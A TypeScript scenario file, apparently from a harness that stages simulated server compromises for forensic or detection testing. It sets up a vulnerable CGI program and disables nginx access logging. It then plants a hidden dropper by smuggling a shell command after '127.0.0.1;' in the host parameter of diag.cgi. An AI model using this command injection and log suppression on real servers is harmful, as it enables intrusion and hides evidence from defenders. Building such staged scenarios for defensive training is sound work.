// The control group and the account of the miner are those of the CGI programs; which request it was nobody wrote down.

import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { vulnerableCgi } from '../../cgi.ts'
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.logins(ordinary)
  vulnerableCgi(dress)
  dress.write('/etc/nginx/conf.d/quiet.conf', 'access_log off;\n')
  const main = readFileSync(join(dress.root, 'etc/nginx/nginx.conf'), 'utf8')
  dress.write('/etc/nginx/nginx.conf', main.replace(/^\s*access_log .*;$/m, ''))
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.w/wwwd', cron: false })
  stage.mark('occurrence')
  await stage.http('203.0.113.98', `/cgi-bin/diag.cgi?host=${encodeURIComponent(`127.0.0.1;${line}`)}`)
}
